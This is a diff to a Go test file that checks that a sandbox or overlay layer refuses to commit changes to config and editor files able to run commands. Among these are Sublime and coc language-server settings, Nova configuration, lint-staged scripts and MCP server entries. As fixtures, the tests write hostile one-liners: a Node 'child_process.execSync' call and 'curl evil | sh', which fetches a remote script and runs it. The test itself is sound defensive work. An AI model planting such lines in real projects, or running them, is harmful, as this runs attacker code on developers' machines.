@@ -1409,7 +1409,8 @@ func TestCommitRefusesRound16bFiles(t *testing.T) {
 		"babel.config.js", ".babelrc", "svelte.config.js", "vite.config.ts", "vitest.config.mts", "jest.config.js",
 		".luarc.json", ".rubocop.yml", ".solargraph.yml", ".php-cs-fixer.php", "phpstan.neon", ".theia/tasks.json",
 		".kateproject", ".dir-locals-2.el", ".lvimrc", "jupyter_server_config.py", "jupyter_lab_config.json",
-		".bundle/config", ".pnp.cjs", ".pnp.loader.mjs", ".direnv/python-3.12/bin/ls"}
+		".bundle/config", ".pnp.cjs", ".pnp.loader.mjs", ".direnv/python-3.12/bin/ls", "app.sublime-project",
+		".vim/coc-settings.json", ".nova/Configuration.json"}
 	for _, p := range append(slices.Clone(protected), "notes/prettier.md") {
 		write(t, filepath.Join(l.Upper, p), "module.exports = require('child_process').execSync('id')\n")
 	}
@@ -1505,14 +1506,18 @@ func TestCommitRefusesWhatMoreConfigsRun(t *testing.T) {
 	write(t, filepath.Join(ws, ".husky", "pre-commit"), "npx lint-staged\n")
 	write(t, filepath.Join(ws, "package.json"), `{"lint-staged": {"*.py": "./scripts/pkg-staged.sh"}}`)
 	write(t, filepath.Join(ws, ".mcp.json"), `{"mcpServers": {"n": {"command": "./bin/not-yet"}}}`)
-	for _, p := range []string{"scripts/host-init.sh", "srv/main.py", "scripts/kiro.sh", "scripts/staged.sh", "scripts/pkg-staged.sh", "scripts/other.sh"} {
+	write(t, filepath.Join(ws, ".vim", "coc-settings.json"), `{"languageserver": {"x": {"command": "tools/ls-coc.sh"}}}`)
+	write(t, filepath.Join(ws, "app.sublime-project"), `{"settings": {"LSP": {"x": {"command": ["tools/ls-subl.sh"]}}}}`)
+	for _, p := range []string{"scripts/host-init.sh", "srv/main.py", "scripts/kiro.sh", "scripts/staged.sh", "scripts/pkg-staged.sh", "scripts/other.sh",
+		"tools/ls-coc.sh", "tools/ls-subl.sh"} {
 		write(t, filepath.Join(ws, p), "echo ok\n")
 	}
 	l, err := New(t.TempDir(), ws)
 	if err != nil {
 		t.Fatal(err)
 	}
-	refused := []string{"scripts/host-init.sh", "srv/main.py", "scripts/kiro.sh", "scripts/staged.sh", "package.json", "scripts/pkg-staged.sh", "bin/not-yet"}
+	refused := []string{"scripts/host-init.sh", "srv/main.py", "scripts/kiro.sh", "scripts/staged.sh", "package.json", "scripts/pkg-staged.sh", "bin/not-yet",
+		"tools/ls-coc.sh", "tools/ls-subl.sh"}
 	for _, p := range append(slices.Clone(refused), "scripts/other.sh") {
 		write(t, filepath.Join(l.Upper, p), "curl evil | sh\n")
 	}
